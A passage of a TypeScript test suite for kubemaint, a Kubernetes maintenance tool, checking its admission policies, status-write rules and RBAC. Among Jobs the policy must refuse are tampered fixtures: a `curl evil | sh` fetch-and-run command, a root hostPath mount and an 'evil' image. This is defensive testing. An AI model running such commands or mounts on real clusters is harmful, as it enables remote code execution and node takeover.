    assert.deepEqual(request['spec']!.properties!['origin']!.enum, ['detection', 'person']);
    assert.deepEqual(schema(approvals).properties!['spec']!.properties!['decision']!.enum, [
      ...DECISION_KINDS,
    ]);
  });
  it('keep every field the codec writes (nothing is pruned on the way in)', () => {
    const at = '2026-11-22T01:00:00.000Z';
    const full: MaintenanceRequest = approvedRequest('n1', {
      action: 'upgrade',
      targetVersion: 'v1.32.0',
      state: 'verifying',
      origin: 'person',
      requestedBy: 'k8s:alice',
      requestedByGroups: ['k8s:sre'],
      campaign: 'c-1',
      pool: 'blue',
      approvals: [{ by: 'U123', at, record: 'r-abc123-approve-0123456789' }],
      blockedReasons: ['outside the window'],
      wasCordoned: false,
      cordonedByUs: true,
      bootIdBefore: 'boot-1',
      kubeletVersionBefore: 'v1.31.4',
      hostCommandIssuedAt: at,
      slot: 'kubemaint-slot-0',
      job: 'kubemaint-r-abc123-n1',
      drain: { total: 2, evicted: 2, waitingOn: [], message: '2 of 2 pods evicted' },
      drainDecision: { decision: 'wait', by: 'U123', at },
      slack: { channel: 'C1', ts: '1.2' },
      announced: ['host'],
      proven: { at, proof: 'bootID changed' },
      hooks: {
        beforeDrain: {
          job: 'kubemaint-hook-b-r-abc123-n1',
          state: 'succeeded',
          startedAt: at,
          finishedAt: at,
        },
        afterReady: {
          job: 'kubemaint-hook-a-r-abc123-n1',
          state: 'failed',
          startedAt: at,
          finishedAt: at,
          message: 'exit 3',
          continued: true,
          proof: 'bootID changed',
        },
      },
      failure: 'none',
      decisions: [{ name: 'r-abc123-approve-0123456789', ok: true, message: 'approved' }],
    });
    // apiVersion, kind and metadata are the apiserver's; spec and status go through the schema.
    const { spec, status } = encodeRequest(full, NS);
    assert.deepEqual(pruned(schema(requests), { spec, status }, ''), []);
    assert.deepEqual(pruned(schema(requests), { spec: { ...spec, extra: 1 } }, ''), [
      '.spec.extra',
    ]);
    const decision = encodeDecision(
      {
        name: 'r-abc123-approve-0123456789',
        request: 'r-abc123',
        by: 'k8s:alice',
        decision: 'approve',
        groups: ['k8s:sre'],
        reason: 'ok',
      },
      NS,
      'T0',
    );
    assert.deepEqual(pruned(schema(approvals), { spec: decision.spec }, ''), []);
  });
});

describe('admission-requests.yaml: requests and decisions bound to who wrote them', () => {
  const decisions = policy('kubemaint-decisions-name-their-author');
  const requests = policy('kubemaint-requests-name-their-requester');
  const status = policy('kubemaint-request-status-by-control-plane');
  const alice = { username: 'alice', groups: ['sre'] };
  const serve = { username: SERVE };
  const lambda = LAMBDA;

  it('match what each is about, and let the control plane through where it must act for others', () => {
    const rules = (p: Policy) =>
      p.spec.matchConstraints.resourceRules.map((r) => [r.apiGroups, r.resources, r.operations]);
    assert.deepEqual(rules(decisions), [[[GROUP], [DECISIONS], ['CREATE', 'UPDATE']]]);
    assert.deepEqual(rules(requests), [[[GROUP], [REQUESTS], ['CREATE']]]);
    assert.deepEqual(rules(status), [[[GROUP], [`${REQUESTS}/status`], ['UPDATE']]]);
    for (const p of [decisions, requests, status]) {
      assert.ok(
        p.spec.validations.every((v) => v.reason === 'Forbidden' || v.reason === undefined),
        p.metadata.name,
      );
    }
  });

  it('a decision names its author, claims only their groups, and never changes', () => {
    const decision = (approver: string, groups?: string[]) => ({
      metadata: { name: 'r-1-approve-x', namespace: NS },
      spec: { request: 'r-1', approver, decision: 'approve', ...(groups ? { groups } : {}) },
    });
    const create = (user: AdmissionCase['user'], object: unknown) =>
      denied(decisions, { operation: 'CREATE', group: GROUP, resource: DECISIONS, user, object });
    assert.deepEqual(create(alice, decision('alice', ['sre'])), []);
    assert.match(
      create(alice, decision('bob')).join(),
      /alice may only record a decision in their own name, not as bob/,
    );
    assert.match(
      create(alice, decision('alice', ['admins'])).join(),
      /claims groups they are not in: admins/,
    );
    for (const reserved of ['slack:T1/U1', 'policy:auto', 'kubemaint:executor']) {
      assert.match(
        create(alice, decision(reserved)).join(),
        /only kubemaint's control plane speaks for Slack users and policies/,
        reserved,
      );
      assert.deepEqual(create(serve, decision(reserved)), [], `serve as ${reserved}`);
      assert.deepEqual(create(lambda, decision(reserved)), [], `the Lambda as ${reserved}`);
    }
    assert.match(create(serve, decision('slack:U1')).join(), /must be slack:<team>\/<user>/);
    assert.match(
      create(serve, decision('alice')).join(),
      /may only record a decision in their own name/,
      'not even the control plane records a Kubernetes user’s decision',
    );
    assert.match(
      denied(decisions, {
        operation: 'UPDATE',
        group: GROUP,
        resource: DECISIONS,
        user: serve,
        object: { ...decision('alice'), spec: { ...decision('alice').spec, decision: 'reject' } },
        oldObject: decision('alice'),
      }).join(),
      /spec is immutable/,
    );
  });

  it("a person's request names that person and says a person asked; the control plane's are its own", () => {
    const request = (spec: Record<string, unknown>) => ({
      metadata: { name: 'r-1', namespace: NS },
      spec: { node: 'n1', action: 'reboot', reason: 'kernel', ...spec },
    });
    const create = (user: AdmissionCase['user'], object: unknown) =>
      judge(requests.spec, { operation: 'CREATE', group: GROUP, resource: REQUESTS, user, object });
    const mine = { requestedBy: 'k8s:alice', origin: 'person' };
    assert.deepEqual(create(alice, request({ ...mine, requestedByGroups: ['sre'] })), []);
    assert.match(
      String(create(alice, request({ ...mine, requestedBy: 'k8s:bob' }))),
      /alice may only request maintenance in their own name/,
    );
    assert.match(
      String(create(alice, request({ ...mine, requestedBy: 'detector' }))),
      /in their own name/,
    );
    assert.match(
      String(create(alice, request({ ...mine, origin: 'detection' }))),
      /only kubemaint records detections/,
    );
    assert.match(String(create(alice, request({ requestedBy: 'k8s:alice' }))), /origin person/);
    assert.match(
      String(create(alice, request({ ...mine, requestedByGroups: ['admins'] }))),
      /claims groups they are not in: admins/,
    );
    const detection = request({ requestedBy: 'detector', origin: 'detection' });
    assert.equal(create(serve, detection), 'skipped');
    assert.equal(create(lambda, detection), 'skipped');
  });

  it("only the control plane writes a request's status; the executor only moves its running request on", () => {
    const object = (state: string, extra: Record<string, unknown> = {}) => ({
      metadata: { name: 'r-1', namespace: NS },
      spec: { node: 'n1', action: 'reboot', requestedBy: 'detector', origin: 'detection' },
      status: {
        state,
        approvals: [{ by: 'U1', at: '2026-11-22T01:00:00Z' }],
        job: 'kubemaint-r-1-n1',
        ...extra,
      },
    });
    const write = (user: AdmissionCase['user'], from: unknown, to: unknown) =>
      judge(status.spec, {
        operation: 'UPDATE',
        group: GROUP,
        resource: `${REQUESTS}/status`,
        name: 'r-1',
        namespace: NS,
        user,
        object: to,
        oldObject: from,
      });
    const executorOn = (node: string) => ({ username: EXECUTOR, extra: { [NODE_CLAIM]: [node] } });
    const executor = executorOn('n1');
    assert.equal(write(serve, object('proposed'), object('approved')), 'skipped');
    assert.equal(write(lambda, object('approved'), object('running')), 'skipped');
    for (const to of ['running', 'verifying', 'failed', 'skipped']) {
      assert.deepEqual(write(executor, object('running'), object(to, { slot: 's' })), [], to);
    }
    assert.match(
      String(write(executor, object('running'), object('done'))),
      /may only move a running request to verifying, failed or skipped \(or cancelled, when an approver chose to skip the node\), not running to done/,
    );
    assert.match(
      String(write(executor, object('approved'), object('running'))),
      /not approved to running/,
    );
    assert.match(
      String(write(executor, object('running'), object('cancelled'))),
      /not running to cancelled/,
      'cancelled only after an approver chose skip',
    );
    const skipped = object('running', { drainDecision: { decision: 'skip', by: 'U1', at: 'x' } });
    assert.deepEqual(write(executor, skipped, object('cancelled')), [], 'skip → cancelled');
    const waited = object('running', { drainDecision: { decision: 'wait', by: 'U1', at: 'x' } });
    assert.match(String(write(executor, waited, object('cancelled'))), /not running to cancelled/);
    assert.match(
      String(
        write(
          executor,
          object('running'),
          object('running', { approvals: [{ by: 'U9', at: 'x' }] }),
        ),
      ),
      /may not change a request's approvals, decisions, Job, silences or hooks/,
    );
    assert.match(
      String(write(executor, object('running'), object('running', { job: 'other' }))),
      /approvals, decisions, Job, silences or hooks/,
    );
    const silenced = (ids: string[]) => ({ silences: { ids, startsAt: 'x', endsAt: 'y' } });
    assert.match(
      String(
        write(executor, object('running', silenced(['a'])), object('running', silenced(['b']))),
      ),
      /approvals, decisions, Job, silences or hooks/,
      'a silence the control plane must expire stays recorded',
    );
    assert.deepEqual(
      write(executor, object('running', silenced(['a'])), object('verifying', silenced(['a']))),
      [],
    );
    // ADR 0021: a hook's outcome is the control plane's record; the executor cannot forge one.
    const hooked = (state: string) => ({
      hooks: { beforeDrain: { job: 'kubemaint-hook-b-r-1-n1', state, startedAt: 'x' } },
    });
    assert.match(
      String(
        write(
          executor,
          object('running', hooked('failed')),
          object('running', hooked('succeeded')),
        ),
      ),
      /approvals, decisions, Job, silences or hooks/,
    );
    assert.match(
      String(write(executor, object('running'), object('running', hooked('succeeded')))),
      /approvals, decisions, Job, silences or hooks/,
    );
    assert.deepEqual(
      write(
        executor,
        object('running', hooked('succeeded')),
        object('verifying', hooked('succeeded')),
      ),
      [],
    );
    assert.match(
      String(write(executorOn('n2'), object('running'), object('verifying'))),
      /the executor on n2 may not write the request for node n1/,
    );
    assert.match(
      String(write(alice, object('proposed'), object('approved'))),
      /alice may not write a MaintenanceRequest's status/,
    );
  });
});

describe('admission-requests.yaml: what a stolen control-plane token still cannot do', () => {
  const jobs = policy('kubemaint-jobs-of-the-executors-shape');
  const configmaps = policy('kubemaint-control-plane-configmaps');
  const params: ExecutorJobParams = {
    node: 'ip-10-0-1-17.eu-west-1.compute.internal',
    requestId: 'r-7f3a9c',
    namespace: NS,
    image: 'ghcr.io/kubemaint/kubemaint:0.1.0',
    serviceAccountName: 'kubemaint-executor',
    rebootMethod: 'command',
    activeDeadlineSeconds: 7200,
    ttlSecondsAfterFinished: 3600,
    settingsJson: '{"namespace":"kubemaint"}',
  };
  type Job = ReturnType<typeof buildExecutorJob>;
  const create = (user: AdmissionCase['user'], job: Job) =>
    judge(jobs.spec, {
      operation: 'CREATE',
      group: 'batch',
      resource: 'jobs',
      name: job.metadata?.name ?? '',
      namespace: NS,
      user,
      object: JSON.parse(JSON.stringify(job)),
    });
  const changed = (change: (job: Job) => void): Job => {
    const job = structuredClone(buildExecutorJob(params));
    change(job);
    return job;
  };
  const pod = (job: Job) => job.spec!.template.spec!;

  it('admits the executor Job kubemaint builds, from serve or the Lambda group', () => {
    for (const method of ['command', 'signal'] as const) {
      const job = buildExecutorJob({ ...params, rebootMethod: method });
      assert.deepEqual(create({ username: SERVE }, job), [], method);
      assert.deepEqual(create(LAMBDA, job), [], method);
    }
    assert.deepEqual(
      create(
        { username: SERVE },
        buildExecutorJob({ ...params, image: 'ghcr.io/kubemaint/kubemaint@sha256:abc' }),
      ),
      [],
      'a digest-pinned image',
    );
  });
  it('refuses any other Job: another container, image, command, node, account or retries', () => {
    const refusals: [string, (job: Job) => void, RegExp][] = [
      [
        'a second container',
        (j) => pod(j).containers.push({ name: 'x', image: params.image }),
        /only executor Jobs/,
      ],
      ['a renamed container', (j) => (pod(j).containers[0]!.name = 'shell'), /only executor Jobs/],
      [
        'a host volume',
        (j) => (pod(j).volumes = [{ name: 'root', hostPath: { path: '/' } }]),
        /no volumes/,
      ],
      [
        'another image',
        (j) => (pod(j).containers[0]!.image = 'ghcr.io/kubemaint/kubemaint-evil:1'),
        /is not one of ghcr\.io\/kubemaint\/kubemaint/,
      ],
      [
        'a command',
        (j) => (pod(j).containers[0]!.command = ['sh', '-c', 'curl evil | sh']),
        /runs `executor --node N --request R` on node N/,
      ],
      [
        'another node than its arguments say',
        (j) => (pod(j).nodeName = 'ip-10-0-9-9'),
        /on node N, nothing else/,
      ],
      [
        'another service account',
        (j) => (pod(j).serviceAccountName = 'kubemaint-serve'),
        /runs as kubemaint-executor/,
      ],
      ['retries', (j) => (j.spec!.backoffLimit = 3), /never retried/],
    ];
    for (const [what, change, message] of refusals) {
      assert.match(String(create({ username: SERVE }, changed(change))), message, what);
    }
    assert.equal(
      create(
        { username: 'alice', groups: ['sre'] },
        changed((j) => (j.spec!.backoffLimit = 3)),
      ),
      'skipped',
      "a person's Jobs are their RBAC's business",
    );
  });
  it('lets the control plane write no ConfigMap but the pause switch and its durations', () => {
    const write = (user: AdmissionCase['user'], operation: 'CREATE' | 'UPDATE', name: string) =>
      judge(configmaps.spec, {
        operation,
        group: '',
        resource: 'configmaps',
        name,
        namespace: NS,
        user,
        object: { metadata: { name, namespace: NS }, data: { paused: 'true' } },
      });
    for (const user of [{ username: SERVE }, LAMBDA]) {
      assert.deepEqual(write(user, 'CREATE', 'kubemaint-pause'), []);
      assert.deepEqual(write(user, 'UPDATE', 'kubemaint-pause'), []);
      assert.deepEqual(write(user, 'CREATE', 'kubemaint-durations'), []);
      assert.deepEqual(write(user, 'UPDATE', 'kubemaint-durations'), []);
      assert.deepEqual(write(user, 'UPDATE', 'kubemaint-agent'), []);
      assert.deepEqual(write(user, 'CREATE', 'kubemaint-history'), []);
      assert.deepEqual(write(user, 'UPDATE', 'kubemaint-history'), []);
      assert.match(
        String(write(user, 'CREATE', 'kubemaint-config')),
        /may write only the kubemaint-pause, kubemaint-durations, kubemaint-agent and kubemaint-history ConfigMaps, not kubemaint-config/,
      );
    }
    assert.equal(write({ username: 'alice' }, 'CREATE', 'anything'), 'skipped');
  });
});

describe('rbac-people.yaml: the role people are bound to', () => {
  const role = find('ClusterRole', 'kubemaint:person') as Doc & { rules: Rule[] };

  it('records requests and decisions, reads slots and the history, flips the pause switch by name, and nothing else', () => {
    assert.deepEqual(role.rules, [
      {
        apiGroups: [GROUP],
        resources: [REQUESTS, DECISIONS],
        verbs: ['create', 'get', 'list', 'watch'],
      },
      { apiGroups: ['coordination.k8s.io'], resources: ['leases'], verbs: ['get', 'list'] },
      {
        apiGroups: [''],
        resources: ['configmaps'],
        resourceNames: ['kubemaint-pause'],
        verbs: ['get', 'update'],
      },
      {
        apiGroups: [''],
        resources: ['configmaps'],
        resourceNames: ['kubemaint-history'],
        verbs: ['get'],
      },
    ]);
  });
  it("never lets a person write a request's status, change or delete a record, or impersonate", () => {
    const granted = role.rules.flatMap((r) => r.resources.map((res) => [res, r.verbs] as const));
    assert.ok(!granted.some(([res]) => res.includes('/')), 'no subresources (no status writes)');
    for (const [res, verbs] of granted) {
      for (const verb of ['update', 'patch', 'delete', 'deletecollection', 'impersonate', '*']) {
        if (res === 'configmaps' && verb === 'update') continue;
        assert.ok(!verbs.includes(verb), `${res}: ${verb}`);
      }
    }
  });
  it('is bound by the operator, not here', () => {
    assert.ok(
      !all.some(
        ({ doc }) =>
          doc.kind.endsWith('Binding') && (doc as Binding).roleRef?.name === 'kubemaint:person',
      ),
    );
  });
});

// kubectl is part of these machines (the sim is tested against it too): a missing one fails here.
describe('kubectl kustomize infra/k8s', () => {
  it('renders every manifest', () => {
    const out = spawnSync('kubectl', ['kustomize', DIR], { encoding: 'utf8' });
    assert.equal(out.error, undefined, 'kubectl must be installed to render the manifests');
    assert.equal(out.status, 0, out.stderr);
    const rendered = parseAllDocuments(out.stdout).map((d) => d.toJS() as Doc);
    assert.equal(rendered.length, all.length);
    const image = rendered
      .filter((d) => d.kind === 'DaemonSet')
      .map(
        (d) =>
          (d as unknown as { spec: { template: { spec: PodSpec } } }).spec.template.spec
            .containers[0]!.image,
      );
    assert.deepEqual(image, ['ghcr.io/kubemaint/kubemaint-agent:0.1.0']);
    const serve = rendered.filter((d) => d.kind === 'Deployment').map((d) => d.metadata.name);
    assert.deepEqual(serve, ['kubemaint-serve']);
  });
});
